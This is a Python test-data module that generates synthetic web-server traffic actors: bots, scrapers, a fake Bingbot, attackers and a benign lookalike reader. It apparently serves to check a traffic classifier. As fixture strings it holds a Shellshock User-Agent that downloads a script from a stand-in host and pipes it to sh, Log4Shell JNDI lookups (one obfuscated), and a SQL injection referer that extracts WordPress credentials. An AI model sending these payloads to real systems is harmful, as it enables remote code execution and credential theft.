"""Sample actors that put the classification rules to the test.

Bots of the categories the main cast lacks (monitor, feed, social, headless), a scraper that
reads faster than anyone can while loading every asset like a browser, a fake Bingbot that
browses like a person, attacks carried in headers (Shellshock, Log4Shell, SQL injection in the
referer), and a reader whose innocent pages and searches look like attacks to a careless rule.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from typing import NamedTuple

from golkepar.sample import truth
from golkepar.sample import vocabulary as v
from golkepar.sample.traffic import (
    HOUR,
    Actor,
    Behaviour,
    Day,
    Hit,
    _attack_start,
    _page_load,
    get,
    monitor,
    periodic,
    size_of,
    url,
)

UPTIMEROBOT = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
FEEDLY = "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)"
FACEBOOK_PREVIEW = "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"
SLACK_PREVIEW = "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"
PERPLEXITYBOT = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
    "+https://perplexity.ai/perplexitybot)"
)
HEADLESS_CHROME = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/131.0.6778.85 Safari/537.36"
)
# Bing's own User-Agent, from a home connection: outside the ranges Bing publishes.
FAKE_BINGBOT = v.BINGBOT
SHELLSHOCK_UA = '() { :; }; /bin/bash -c "curl -s http://198.51.100.66/x.sh | sh"'
LOG4SHELL_UA = "${jndi:ldap://198.51.100.66:1389/Exploit}"
LOG4SHELL_REFERER = "${${lower:j}ndi:${lower:l}dap://198.51.100.66:1389/a}"
LOG4SHELL_QUERY = "x=${jndi:ldap://198.51.100.66:1389/b}"
SQLI_REFERER = (
    "https://www.google.com/search?q=1' UNION SELECT user_login,user_pass FROM wp_users-- -"
)

# Pages and searches that look like attacks to a careless pattern, and are not.
LOOKALIKE_PATHS: tuple[str, ...] = (
    "/?s=drop-down+select+or+insert+options",
    "/blog/linux-etc-hosts-explained/",
    "/administration-guide/",
    "/?s=l'%C3%A9t%C3%A9+%22en+famille%22",
    "/?s=O'Reilly+%22Learning+SQL%22+or+%22SQL+in+a+nutshell%22",
    "/?s=%22grep%22+--color+%28select+lines%29",
)
LOOKALIKE_REFERER = (
    "https://www.google.fr/search?q=%22drop-down%22+select+or+insert+options+'l%C3%A9t%C3%A9'"
)

# A scraper's pace: a page every 2 seconds, 30 a minute, for several minutes.
SCRAPER_PAGE_GAP_S = 2
SCRAPER_MINUTES = 6


def _loads(
    actor: Actor, rng: random.Random, day: Day, t: int, path: str, referer: str | None
) -> tuple[list[Hit], int]:
    """A page and its assets, and the instant after the last of them."""
    hits = list(_page_load(actor, rng, day, t, path, referer))
    return hits, max(hit.instant for hit in hits) + 1


def fast_scraper(actor: Actor, rng: random.Random, day: Day) -> Iterator[Hit]:
    """A browser driven by a script: assets and all, but 30 pages a minute for minutes."""
    t = day.start + rng.randint(2 * HOUR, 10 * HOUR)
    until = min(day.end, t + SCRAPER_MINUTES * 60)
    referer = None
    first = True
    while t < until:
        path = rng.choice(v.PAGES)
        yield actor.hit(t, day, get(path), 200, size_of(path, 8_000, 60_000), referer)
        page_url = url(day, path)
        # Its browser caches the theme's files: only each page's own image after the first.
        assets = v.PAGE_ASSETS if first else ()
        for asset in assets:
            yield actor.hit(t + 1, day, get(asset), 200, size_of(asset, 3_000, 90_000), page_url)
        image = f"{v.IMAGE_FOLDER}{path.split('?')[0].strip('/').split('/')[-1] or 'accueil'}.webp"
        yield actor.hit(t + 1, day, get(image), 200, size_of(image, 20_000, 400_000), page_url)
        first = False
        referer = page_url
        t += SCRAPER_PAGE_GAP_S


def headless_reader(actor: Actor, rng: random.Random, day: Day) -> Iterator[Hit]:
    """HeadlessChrome at a human pace, assets included: its User-Agent alone tells."""
    t = day.start + rng.randint(8 * HOUR, 11 * HOUR)
    if t >= day.end - HOUR:
        return
    for path in rng.sample(v.PAGES, 4):
        hits, t = _loads(actor, rng, day, t, path, None)
        yield from hits
        t += rng.randint(20, 90)


def link_preview(actor: Actor, rng: random.Random, day: Day) -> Iterator[Hit]:
    """A social network previewing a shared link: the page, then the image it shows."""
    t = day.start + rng.randint(HOUR, 4 * HOUR)
    for _ in range(rng.randint(1, 3)):
        if t >= day.end:
            return
        page = rng.choice(v.PAGES[2:9])
        yield actor.hit(t, day, get(page), 200, 31_000)
        image = f"{v.IMAGE_FOLDER}{page.strip('/').split('/')[-1]}.webp"
        yield actor.hit(t + 1, day, get(image), 200, 120_000)
        t += rng.randint(2 * HOUR, 5 * HOUR)


def browsing_impostor(actor: Actor, rng: random.Random, day: Day) -> Iterator[Hit]:
    """Bing's User-Agent on a home connection, loading pages and assets like a person."""
    t = _attack_start(actor, rng, day)
    if t is None:
        return
    for path in rng.sample(v.PAGES, 3):
        hits, t = _loads(actor, rng, day, t, path, None)
        yield from hits
        t += rng.randint(30, 120)


def header_attack(actor: Actor, rng: random.Random, day: Day) -> Iterator[Hit]:
    """Exploits carried in the User-Agent or the referer, on ordinary-looking requests."""
    t = _attack_start(actor, rng, day)
    if t is None:
        return
    attack = actor.attack_kinds[0]
    if attack == truth.SHELLSHOCK:
        # Pages that exist: a missing /cgi-bin/ script would be an admin probe as well.
        for path in ("/", "/contact/", "/?p=1"):
            yield actor.hit(t, day, get(path), 200, 31_000)
            t += rng.randint(1, 5)
    elif attack == truth.LOG4SHELL:
        yield actor.hit(t, day, get("/"), 200, 31_000)
        yield actor.hit(t + 1, day, get("/produits/"), 200, 28_000, LOG4SHELL_REFERER)
        yield actor.hit(t + 2, day, get(f"/?{LOG4SHELL_QUERY}"), 200, 31_000)
    else:
        for path in ("/produits/", "/contact/"):
            yield actor.hit(t, day, get(path), 200, 28_000, SQLI_REFERER)
            t += rng.randint(1, 5)


def lookalike_reader(actor: Actor, rng: random.Random, day: Day) -> Iterator[Hit]:
    """A person whose searches and pages hold SQL words, quotes and system-file names."""
    t = day.start + rng.randint(9 * HOUR, 11 * HOUR)
    if t >= day.end - HOUR:
        return
    referer: str | None = LOOKALIKE_REFERER
    for path in LOOKALIKE_PATHS:
        hits, t = _loads(actor, rng, day, t, path, referer)
        yield from hits
        referer = url(day, path)
        t += rng.randint(30, 200)
    actor.visits += 1


class ClassificationRole(NamedTuple):
    """An actor of these cases: who it is, where from, and what the warehouse must say."""

    name: str
    cidr: str
    user_agent: str
    intended_class: str
    behaviour: Behaviour
    attack_kinds: tuple[str, ...] = ()
    extra: tuple[tuple[str, int], ...] = ()
    bot: tuple[str, str] | None = None


B, A, H = truth.BOT, truth.ATTACKER, truth.HUMAN
CLASSIFICATION_ROLES: tuple[ClassificationRole, ...] = (
    ClassificationRole("uptimerobot", "51.68.0.0/16", UPTIMEROBOT, B, monitor,
                       bot=("UptimeRobot", "monitor")),
    ClassificationRole("feedly", "3.80.0.0/16", FEEDLY, B, periodic,
                       extra=(("path", 2), ("period", HOUR)), bot=("Feedly", "feed")),
    ClassificationRole("facebook-preview", "3.80.0.0/16", FACEBOOK_PREVIEW, B, link_preview,
                       bot=("facebookexternalhit", "social")),
    ClassificationRole("slack-preview", "3.80.0.0/16", SLACK_PREVIEW, B, link_preview,
                       bot=("Slackbot", "social")),
    ClassificationRole("perplexitybot", "3.80.0.0/16", PERPLEXITYBOT, B, link_preview,
                       bot=("PerplexityBot", "ai")),
    ClassificationRole("headless-chrome", "167.99.0.0/16", HEADLESS_CHROME, B, headless_reader,
                       bot=("HeadlessChrome", "headless")),
    ClassificationRole("fast-scraper", "88.198.0.0/16", v.BROWSERS[0], B, fast_scraper,
                       bot=("unnamed", "other")),
    ClassificationRole("fake-bingbot", "90.12.0.0/16", FAKE_BINGBOT, A, browsing_impostor,
                       (truth.FAKE_CRAWLER,)),
    ClassificationRole("shellshock", "61.135.0.0/16", SHELLSHOCK_UA, A, header_attack,
                       (truth.SHELLSHOCK,)),
    ClassificationRole("log4shell", "95.24.0.0/16", LOG4SHELL_UA, A, header_attack,
                       (truth.LOG4SHELL,)),
    ClassificationRole("referer-sqli", "218.92.0.0/16", v.OLD_CHROME, A, header_attack,
                       (truth.REFERER_SQLI,)),
    ClassificationRole("lookalike-reader", "2a01:cb00::/32", v.BROWSERS[5], H, lookalike_reader),
)  # fmt: skip


def classification_cast(ip: Callable[[str], str], days: int) -> list[Actor]:
    """The actors above, with addresses from `ip(cidr)`; attackers strike on spread days."""
    return [
        Actor(
            role.name,
            ip(role.cidr),
            role.user_agent,
            role.intended_class,
            role.behaviour,
            role.attack_kinds,
            active_day=i % days,
            extra=dict(role.extra),
            bot=role.bot,
        )
        for i, role in enumerate(CLASSIFICATION_ROLES)
    ]
